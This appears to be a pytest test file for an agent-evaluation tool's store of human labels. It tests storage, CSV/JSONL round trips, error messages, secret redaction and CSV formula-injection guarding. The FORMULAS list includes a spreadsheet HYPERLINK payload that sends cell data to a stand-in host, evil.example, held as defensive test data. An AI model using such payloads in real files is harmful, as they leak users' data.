"""Human labels in the run store (schema version 5) on SQLite and a real PostgreSQL: stored beside the machine
verdicts, replaced per (case, metric, labeler), imported all or nothing and exported as JSONL and CSV."""

from __future__ import annotations

import csv
import io
import json

import pytest
from agentevals.errors import ConfigError, RunNotFoundError
from agentevals.results import CaseResult, HumanLabel, MetricResult
from agentevals.results.labels import disagreements, human_cell
from agentevals.store import RunStore
from agentevals.store._label_files import import_labels, read_labels_file, write_labels_file
from support.stored_runs import HELM, K8S, record

HELM_ID = "3e289017fe03ffd7c4145316d2eb3d0d"  # tool_trajectory_avg_score PASSED
K8S_ID = "d497c9dd55717f2c5ecb79bda3028993"  # tool_trajectory_avg_score FAILED
METRIC = "tool_trajectory_avg_score"
NOTE = 'called "helm list", twice;\nthen answered, with a comma'


@pytest.fixture
def labelled(store_url):
    store = RunStore.open(store_url)
    try:
        run, _ = record(store, [HELM, K8S])
        yield store, run.run_id
    finally:
        store.close()


def test_labels_are_stored_beside_the_cases_and_replaced_per_labeler(labelled):
    store, run_id = labelled
    store.add_label(run_id, K8S_ID, verdict="pass", note="no helm needed here", labeler="ana")
    store.add_label(run_id, HELM_ID, metric=METRIC, verdict="fail", score=0.25, note=NOTE, labeler="bo")
    store.add_label(run_id, HELM_ID, metric=METRIC, verdict="pass", labeler="cy")
    again = store.add_label(run_id, HELM_ID, metric=METRIC, score="0.1", note=NOTE, labeler="bo")  # replaces bo's
    assert again.label.verdict is None and again.label.score == 0.1

    labels = store.labels(run_id)
    assert [(r.case_id, r.label.metric, r.label.labeler, r.label.verdict, r.label.score) for r in labels] == [
        (HELM_ID, METRIC, "bo", None, 0.1), (HELM_ID, METRIC, "cy", "pass", None), (K8S_ID, None, "ana", "pass", None)]
    assert labels[0].label.note == NOTE and labels[0].label.created_at.endswith("Z")
    assert store.labels() == labels and store.labels("2099") == []

    cases = dict(store.load_cases(run_id))
    assert [x.labeler for x in cases[0].labels] == ["bo", "cy"] and [x.labeler for x in cases[1].labels] == ["ana"]
    assert [x.labeler for _, c in store.load_cases(run_id, index=1) for x in c.labels] == ["ana"]
    # bo's 0.1 is under the row's threshold (a FAILED by score) on a PASSED row; ana's pass on a FAILED case
    found = disagreements(store.load_run(run_id).cases)
    assert [(d.case_id, d.metric, d.machine.value, d.label.labeler) for d in found] == [
        (HELM_ID, METRIC, "PASSED", "bo"), (K8S_ID, None, "FAILED", "ana")]

    assert store.remove_label(run_id, 0, metric=METRIC, labeler="cy") is True
    assert store.remove_label(run_id, 0, metric=METRIC, labeler="cy") is False
    assert len(store.labels(run_id)) == 2


def test_unknown_runs_cases_metrics_and_bad_values_are_one_line_errors(labelled):
    store, run_id = labelled
    with pytest.raises(RunNotFoundError, match=r"^no run 'nope' in the run store"):
        store.add_label("nope", HELM_ID, verdict="pass")
    with pytest.raises(ConfigError, match=rf"^no case 'abc' in run {run_id} \(see 'agentevals runs show {run_id}'"):
        store.add_label(run_id, "abc", verdict="pass")
    with pytest.raises(ConfigError, match=rf"^case '{HELM_ID}' of run {run_id} has no metric 'tool_trajectory' "
                                          rf"\(did you mean '{METRIC}'\?\) \(its metrics: {METRIC}\)$"):
        store.add_label(run_id, HELM_ID, metric="tool_trajectory", verdict="pass")
    for kwargs, message in (({"verdict": "maybe"}, "verdict 'maybe' is not pass or fail"),
                            ({"score": 1.5}, "score 1.5 is not a number in [0, 1]"),
                            ({"score": "nan"}, "score 'nan' is not a number in [0, 1]"),
                            ({"note": "just a note"}, "a label needs a verdict (pass or fail) or a score")):
        with pytest.raises(ConfigError) as err:
            store.add_label(run_id, HELM_ID, **kwargs)
        assert str(err.value) == message
    assert store.labels(run_id) == []


def test_import_export_import_round_trips_jsonl_and_csv(labelled, tmp_path):
    store, run_id = labelled
    source = tmp_path / "in.csv"
    with open(source, "w", encoding="utf-8-sig", newline="") as f:  # as a spreadsheet saves it, BOM first
        writer = csv.writer(f)
        writer.writerow(["run", "case", "metric", "verdict", "score", "note", "labeler"])
        writer.writerow([run_id[:22], HELM_ID, METRIC, "FAIL", "0.2", NOTE, "ana"])  # a prefix, any case
        writer.writerow([run_id, K8S_ID, "", "pass", "", "fine, really", "bo"])
        writer.writerow([run_id, K8S_ID, METRIC, "", "1", "", ""])
    imported = import_labels(store, source)
    assert len(imported) == 3
    first = store.labels(run_id)
    assert first[0].label.note == NOTE and first[0].label.verdict == "fail" and first[2].label.labeler is None

    for name in ("out.jsonl", "out.csv"):
        out = tmp_path / name
        write_labels_file(store.labels(run_id), out)
        rows = read_labels_file(out)
        assert [r["case"] for _, r in rows] == [HELM_ID, K8S_ID, K8S_ID]
        assert import_labels(store, out) and store.labels(run_id) == first  # same labels, nothing added
    text = (tmp_path / "out.csv").read_text("utf-8")
    assert text.splitlines()[0] == "run,case,metric,verdict,score,note,labeler,created_at"
    assert '"called ""helm list"", twice;\nthen answered, with a comma"' in text
    assert json.loads((tmp_path / "out.jsonl").read_text("utf-8").splitlines()[0])["note"] == NOTE

    stream = io.StringIO()
    assert write_labels_file(store.labels(run_id), None, stream=stream) == "jsonl"
    assert stream.getvalue() == (tmp_path / "out.jsonl").read_text("utf-8")


def test_a_bad_row_imports_nothing_and_names_its_line(labelled, tmp_path):
    store, run_id = labelled
    good = json.dumps({"run": run_id, "case": HELM_ID, "verdict": "pass"})
    cases = {
        "unknown run": (f'{good}\n\n{{"run": "2099", "case": "x", "verdict": "pass"}}\n',
                        r"^{path}:3: no run '2099' in the run store .*; nothing imported$"),
        "unknown case": (f'{good}\n{{"run": "{run_id}", "case": "abc", "verdict": "pass"}}\n',
                         rf"^{{path}}:2: no case 'abc' in run {run_id} "),
        "unknown metric": (f'{{"run": "{run_id}", "case": "{HELM_ID}", "metric": "x", "verdict": "pass"}}\n',
                           rf"^{{path}}:1: case '{HELM_ID}' of run {run_id} has no metric 'x'"),
        "bad verdict": (f'{good}\n{{"run": "{run_id}", "case": "{HELM_ID}", "verdict": "ok"}}\n',
                        r"^{path}:2: verdict 'ok' is not pass or fail; nothing imported$"),
        "bad score": (f'{{"run": "{run_id}", "case": "{HELM_ID}", "score": 2}}\n',
                      r"^{path}:1: score '2' is not a number in \[0, 1\]"),
        "latest": (f'{{"run": "latest", "case": "{HELM_ID}", "verdict": "pass"}}\n',
                   r"^{path}:1: run 'latest': name the run by its id"),
        "typo": (f'{{"run": "{run_id}", "case": "{HELM_ID}", "verdcit": "pass"}}\n',
                 r"^{path}:1: unknown column 'verdcit' \(did you mean 'verdict'\?\)"),
        "not json": (f"{good}\n{{run: 1}}\n", r"^{path}:2: not a JSON object: "),
        "not an object": (f"{good}\n[1]\n", r"^{path}:2: not a JSON object \(one label per line"),
        "missing case": (f'{{"run": "{run_id}", "verdict": "pass"}}\n', r"^{path}:1: empty or missing column 'case'"),
        "nested": (f'{{"run": "{run_id}", "case": "{HELM_ID}", "verdict": "pass", "note": {{"a": 1}}}}\n',
                   r"^{path}:1: column 'note' is dict, expected text or a number$"),
    }
    for name, (text, pattern) in cases.items():
        path = tmp_path / f"{name.replace(' ', '_')}.jsonl"
        path.write_text(text, "utf-8")
        with pytest.raises(ConfigError, match=pattern.format(path=str(path))):
            import_labels(store, path)
        assert store.labels(run_id) == [], name

    rows = f"run,case,verdict,note\n{run_id},{HELM_ID},pass,\"a note\nover two lines\"\n{run_id},nope,pass,x\n"
    (tmp_path / "bad.csv").write_text(rows, "utf-8")
    with pytest.raises(ConfigError, match=rf"bad\.csv:4: no case 'nope' in run {run_id}"):  # the row's own line
        import_labels(store, tmp_path / "bad.csv")
    (tmp_path / "wide.csv").write_text(f"run,case,verdict\n{run_id},{HELM_ID},pass,extra\n", "utf-8")
    with pytest.raises(ConfigError, match=r"wide\.csv:2: 4 cells, the header has 3 columns \(quote a value"):
        import_labels(store, tmp_path / "wide.csv")
    (tmp_path / "labels.txt").write_text("x", "utf-8")
    with pytest.raises(ConfigError, match=r"labels\.txt: cannot tell the labels format from the file name"):
        import_labels(store, tmp_path / "labels.txt")
    assert store.labels(run_id) == []


def test_labels_go_with_their_run_and_secrets_never_reach_the_store(labelled, monkeypatch):
    store, run_id = labelled
    secret = "sk-proj-" + "A1b2C3d4" * 5
    store.add_label(run_id, HELM_ID, verdict="fail", note=f"the agent echoed {secret}", labeler="ana")
    note = store.labels(run_id)[0].label.note
    assert secret not in note and note.startswith("the agent echoed ")
    with store.db.transaction():  # a run removed from the store takes its labels with it
        store.db.execute("DELETE FROM runs WHERE run_id = ?", (run_id,))
    assert store.labels() == []


def test_the_commands_round_trip_on_both_backends(labelled, tmp_path):
    """`labels import` → `labels export` → `labels import` through the CLI, and `runs show` of the labels."""
    from agentevals.cli import cli
    from click.testing import CliRunner

    store, run_id = labelled
    url = store.db.location

    def agentevals(*args: str):
        return CliRunner().invoke(cli, [*args, "--store", url], catch_exceptions=False)

    (tmp_path / "in.jsonl").write_text(
        json.dumps({"run": run_id, "case": K8S_ID, "verdict": "pass", "note": NOTE, "labeler": "ana"}) + "\n"
        + json.dumps({"run": run_id, "case": HELM_ID, "metric": METRIC, "score": 0.9, "labeler": "bo"}) + "\n", "utf-8")
    assert agentevals("labels", "import", str(tmp_path / "in.jsonl")).exit_code == 0
    for name in ("out.csv", "out.jsonl"):
        assert agentevals("labels", "export", run_id, "-o", str(tmp_path / name)).exit_code == 0
    first = agentevals("labels", "export").output
    for name in ("out.csv", "out.jsonl"):
        again = agentevals("labels", "import", str(tmp_path / name))
        assert again.output == f"imported 2 labels of 1 run from {tmp_path / name}\n"
        assert agentevals("labels", "export").output == first
    assert [json.loads(line)["note"] for line in first.splitlines()] == [None, NOTE]
    shown = agentevals("runs", "show", run_id, "--disagreements")
    assert shown.output == (f"run {run_id}: 1 of 2 human labels disagree with the evaluator\n"
                            f"  {K8S_ID} · whole case: evaluator FAILED (0) · human pass (ana): {' '.join(NOTE.split())}\n")  # one line


def test_the_human_cell_marks_disagreements_and_stays_short():
    row = MetricResult.scored(METRIC, 0.9, 0.5)
    labels = [HumanLabel(metric=METRIC, verdict="fail", labeler="ana"), HumanLabel(metric=METRIC, score=0.7),
              HumanLabel(metric=METRIC, score=0.2, labeler="bo"), HumanLabel(metric="other", verdict="fail"),
              *(HumanLabel(metric=METRIC, verdict="pass", labeler=f"u{i}") for i in range(3))]
    case = CaseResult(case_id="c", trace_ids=["c"], sources=["s"], metrics=[row], labels=labels)
    assert human_cell(row, case) == "≠ fail (ana), 0.7, ≠ 0.2 (bo), +3 more"
    assert human_cell(row, case.model_copy(update={"labels": labels[1:2]})) == "0.7"
    errored = MetricResult.errored(METRIC, "boom")  # no verdict to disagree with
    assert disagreements([CaseResult(case_id="c", trace_ids=["c"], sources=["s"], metrics=[errored],
                                     labels=labels)]) == []


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\r=1",
            "'=1+1", "''-3", "plain, text", "'quoted but harmless"]


def test_csv_cells_never_start_a_formula_and_import_takes_the_guard_off(labelled, tmp_path):
    store, run_id = labelled
    records = [store.label_record(run_id, HELM_ID, verdict="pass", note=note, labeler=f"-{i}")
               for i, note in enumerate(FORMULAS)]
    records.append(store.label_record(run_id, K8S_ID, metric=METRIC, score="0.5", note="=1", labeler="@ana"))
    store.add_labels(records)
    first = store.labels(run_id)
    assert [r.label.note for r in first[:-1]] == FORMULAS  # stored as given

    out = tmp_path / "out.csv"
    write_labels_file(first, out)
    with out.open(encoding="utf-8", newline="") as f:  # as written: a CR in a cell stays a CR
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    for row in body:
        for name, cell in zip(header, row, strict=True):
            if name != "score":
                assert not cell or cell[0] not in "=+-@\t\r", (name, cell)
    notes = [dict(zip(header, row, strict=True))["note"] for row in body]
    assert notes == ["'" + FORMULAS[0], "'+1", "'-2", "'@SUM(A1:A9)", "'\tx", "'\r=1", "''=1+1", "'''-3",
                     "plain, text", "'quoted but harmless", "'=1"]
    assert [dict(zip(header, row, strict=True))["labeler"] for row in body] == [
        *(f"'-{i}" for i in range(len(FORMULAS))), "'@ana"]
    assert dict(zip(header, body[-1], strict=True))["score"] == "0.5"  # a number is not text: no guard

    # Import takes the guard off: the same labels, nothing added or changed.
    assert [r["note"] for _, r in read_labels_file(out)] == [*FORMULAS, "=1"]
    import_labels(store, out)
    assert store.labels(run_id) == first
    # JSONL is not a spreadsheet: written as is.
    jsonl = tmp_path / "out.jsonl"
    write_labels_file(first, jsonl)
    assert [json.loads(line)["note"] for line in jsonl.read_text("utf-8").splitlines()] == [*FORMULAS, "=1"]


def test_the_guard_is_exact_on_its_own():
    from agentevals.core._csv import guard_cell, unguard_cell

    for text in [*FORMULAS, "", "'", "''", "-0.5", "a=b", " =1"]:
        assert unguard_cell(guard_cell(text)) == text
    assert guard_cell("-0.5") == "'-0.5"  # as text; a score is written as a number and never guarded
    assert guard_cell(" =1") == " =1" and guard_cell("a=b") == "a=b"
